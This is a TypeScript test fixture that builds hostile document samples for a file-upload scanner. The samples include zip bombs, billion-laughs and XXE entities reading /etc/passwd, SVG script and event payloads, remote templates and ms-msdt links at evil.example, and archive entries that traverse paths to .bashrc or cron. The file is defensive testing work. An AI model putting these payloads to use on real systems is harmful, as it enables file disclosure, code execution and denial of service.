import { type Hostile, hostile } from './hostile-file-trial.ts';
import { makeCompound } from './make-compound-trial.ts';
import { makeOffice, makeOpenDocument, makeZip, type ZipPart } from './make-zip-trial.ts';

const LAUGHS = `<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]><l>&b;</l>`;
const OUTSIDE = `<?xml version="1.0"?><!-- <root> --><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>`;
const MACROS = 'application/vnd.ms-word.document.macroEnabled.main+xml';
const PROGRAM = Buffer.concat([Buffer.from('MZ\x90\0\x03\0\0\0', 'latin1'), Buffer.alloc(100)]);
const LINK = Buffer.concat([Buffer.from('4c0000000114020000000000c000000000000046', 'hex'), Buffer.alloc(100)]);

const svg = (inside: string, more = '') =>
  `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"${more}>${inside}</svg>`;
const DRAWINGS: Readonly<Record<string, string | Buffer>> = {
  'a script': svg('<script>alert(1)</script>'),
  'a script under a prefix': svg('<s:script>alert(1)</s:script>', ' xmlns:s="http://www.w3.org/2000/svg"'),
  'a script in capitals': svg('<SCRIPT>alert(1)</SCRIPT>'),
  'a script in UTF-16': Buffer.from(`\ufeff${svg('<script>alert(1)</script>')}`, 'utf16le'),
  'a script in UTF-7': `<?xml version="1.0" encoding="utf-7"?>${svg('+ADw-script+AD4-')}`,
  'a script behind a declaration it lies about': Buffer.from(
    `<?xml version="1.0" encoding="big5"?>${svg('<g id="字"/>')}`,
  ),
  'an event': svg('<rect onclick="alert(1)"/>'),
  'an event on itself': svg('', " onload='alert(1)'"),
  'a link that scripts': svg('<a xlink:href="javascript:alert(1)"><rect/></a>'),
  'a link that scripts, disguised': svg('<a xlink:href="java&#x9;script:alert(1)"><rect/></a>'),
  'a picture from elsewhere': svg('<image xlink:href="https://evil.example/a.png"/>'),
  'a picture that is a drawing': svg('<image href="data:image/svg+xml;base64,PHN2Zy8+"/>'),
  'a part from elsewhere': svg('<use href="https://evil.example/a.svg#b"/>'),
  'a page inside': svg('<foreignObject><p/></foreignObject>'),
  'elements of a page': svg('<h:img xmlns:h="http://www.w3.org/1999/xhtml" src="a"/>'),
  'a style from elsewhere': svg('<style>@import url(https://evil.example/a.css);</style>'),
  'a colour from elsewhere': svg('<rect fill="url(https://evil.example/a#b)"/>'),
  'a style with escapes': svg('<style>rect { fill: u\\72l(https://evil.example) }</style>'),
  'an animation of where it leads': svg('<a href="#a"><set attributeName="href" to="javascript:alert(1)"/></a>'),
  'a style sheet': `<?xml-stylesheet href="https://evil.example/a.css"?>${svg('')}`,
  entities: `<!DOCTYPE svg [<!ENTITY a "<script/>">]>${svg('&a;')}`,
  'an entity that nobody knows': svg('<text>&evil;</text>'),
  'tags that are not closed': svg('<rect onclick=alert(1)>'),
  'no drawing': '<html/>',
};

const relation = (type: string, target: string) =>
  `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="${OFFICE_TYPES}/${type}" Target="${target}" TargetMode="External"/></Relationships>`;
const OFFICE_TYPES = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const RELATIONS = [
  ['attachedTemplate', 'https://evil.example/a.dotm'],
  ['attachedTemplate', '\\\\evil.example\\a.dotm'],
  ['attachedTemplate', 'file://evil.example/a.dotm'],
  ['oleObject', 'https://evil.example/a.html!'],
  ['oleObject', 'mhtml:https://evil.example/a!x-usc:https://evil.example/a'],
  ['frame', 'https://evil.example/a.docx'],
  ['subDocument', 'https://evil.example/a.docx'],
  ['hyperlink', 'java&#9;script:alert(1)'],
  ['hyperlink', 'ms-msdt:/id PCWDiagnostic'],
] as const;
const zeros = Buffer.alloc(60_000_000);
const many = Array.from({ length: 6_000 }, (_, n): ZipPart => ({ name: `xl/${n}.xml`, stored: true }));

const withPart = (what: string, code: Hostile['code'], part: ZipPart): Hostile =>
  hostile(`a document with ${what}`, code, 'essay.docx', makeOffice('docx', [part]));

/** Documents that are archives inside, and would do harm to whoever opens or unpacks them. */
export const badArchives = (): readonly Hostile[] => [
  withPart('60 MB of nothing in 60 kB', 'bomb', { name: 'word/media/a.bin', data: zeros }),
  withPart('a part that says it is 4 GB', 'bomb', { name: 'word/media/a.bin', data: 'x', says: 0xfffffff0 }),
  withPart('two parts in the same bytes', 'bomb', { name: 'word/b.bin', data: 'x', shared: true }),
  withPart('entities that laugh a billion times', 'bomb', { name: 'word/styles.xml', data: LAUGHS }),
  withPart('an entity that reads a file', 'bomb', { name: 'word/styles.xml', data: OUTSIDE }),
  withPart('entities in UTF-16', 'bomb', { name: 'word/styles.xml', data: Buffer.from(`\ufeff${LAUGHS}`, 'utf16le') }),
  withPart('relations that declare entities', 'bomb', { name: 'word/_rels/x.rels', data: LAUGHS }),
  withPart('a part that unpacks while it is looked at', 'bomb', {
    name: 'word/a.xml',
    data: zeros.subarray(0, 19_000_000),
  }),
  withPart('macros', 'unsafe', { name: 'word/vbaProject.bin', data: 'x' }),
  withPart('an ActiveX control', 'unsafe', { name: 'word/activeX/activeX1.bin', data: 'x' }),
  withPart('a program that calls itself a picture', 'unsafe', { name: 'word/media/image1.png', data: PROGRAM }),
  withPart('a link that calls itself a font', 'unsafe', { name: 'word/fonts/font1.odttf', data: LINK }),
  withPart('macros of Excel 4', 'unsafe', { name: 'xl/macrosheets/sheet1.xml', data: '<x/>' }),
  withPart('a packed file', 'unsafe', {
    name: 'word/embeddings/oleObject1.bin',
    data: makeCompound(['\u0001Ole10Native']),
  }),
  withPart('an old document with macros inside', 'unsafe', {
    name: 'word/embeddings/a.doc',
    data: makeCompound(['Macros', 'VBA']),
  }),
  withPart('half an object', 'unsafe', { name: 'word/embeddings/a.bin', data: makeCompound(['a']).subarray(0, 600) }),
  withPart('an archive inside', 'not-offered', { name: 'word/embeddings/a.bin', data: makeZip([{ name: 'a.txt' }]) }),
  withPart('a document with macros inside', 'unsafe', {
    name: 'word/embeddings/a.docx',
    data: makeOffice('docx', [{ name: 'word/vbaProject.bin', data: 'x' }]),
  }),
  withPart('documents within documents without end', 'unsafe', {
    name: 'a.docx',
    data: makeOffice('docx', [
      {
        name: 'b.docx',
        data: makeOffice('docx', [
          { name: 'c.docx', data: makeOffice('docx', [{ name: 'd.docx', data: makeOffice('docx') }]) },
        ]),
      },
    ]),
  }),
  ...Object.entries(DRAWINGS).map(([what, data]) =>
    withPart(`a drawing with ${what}`, 'unsafe', { name: 'word/media/image2.svg', data }),
  ),
  ...RELATIONS.map(([type, target]) =>
    withPart(`${type} at ${target}`, 'unsafe', { name: 'word/_rels/document.xml.rels', data: relation(type, target) }),
  ),
  hostile(
    'a document that is locked',
    'encrypted',
    'locked.docx',
    makeCompound(['EncryptionInfo', 'EncryptedPackage']),
  ),
  withPart('a program inside', 'unsafe', { name: 'word/embeddings/setup.exe', data: 'MZ' }),
  withPart('a page inside', 'unsafe', { name: 'word/afchunk.html', data: '<script>' }),
  withPart('a part above its folder', 'unsafe', { name: '../../.bashrc', data: 'x' }),
  withPart('a part at the root of the machine', 'unsafe', { name: '/etc/cron.d/x', data: 'x' }),
  withPart('a part on a drive', 'unsafe', { name: 'C:\\autoexec.txt', data: 'x' }),
  withPart('a symbolic link', 'unsafe', { name: 'word/link', data: '/etc/passwd', mode: 0o120777 }),
  withPart('a part that is encrypted', 'encrypted', { name: 'word/a.bin', data: 'x', flags: 1 }),
  hostile('a document whose list says macros', 'unsafe', 'm.docx', makeOffice('docx', [], MACROS)),
  hostile(
    'an open document with Basic in it',
    'unsafe',
    'b.odt',
    makeOpenDocument([{ name: 'Basic/Standard/x.xml', data: 'x' }]),
  ),
  hostile('a sheet of six thousand parts', 'too-many-inside', 'many.xlsx', makeOffice('xlsx', many)),
  hostile(
    'a document with something behind it',
    'unreadable',
    'tail.docx',
    Buffer.concat([makeOffice('docx'), Buffer.from('MZ')]),
  ),
  hostile(
    'a document with a comment on the archive',
    'unreadable',
    'c.docx',
    makeZip([{ name: 'a' }], { comment: '<html>' }),
  ),
  hostile('half a document', 'unreadable', 'half.docx', makeOffice('docx').subarray(0, 200)),
  hostile(
    'an archive that calls itself a document',
    'not-offered',
    'plain.docx',
    makeZip([{ name: 'a.txt', data: 'a' }]),
  ),
  hostile(
    'an archive that calls itself a picture',
    'not-offered',
    'plain.jpg',
    makeZip([{ name: 'a.txt', data: 'a' }]),
  ),
  hostile(
    'an open document of a kind nobody opens',
    'not-offered',
    'x.odt',
    makeOpenDocument([], 'application/x-evil'),
  ),
  hostile('a sheet that calls itself a text', 'wrong-ending', 'sheet.docx', makeOffice('xlsx')),
  hostile('a document that calls itself a picture', 'wrong-ending', 'doc.png', makeOffice('docx')),
];
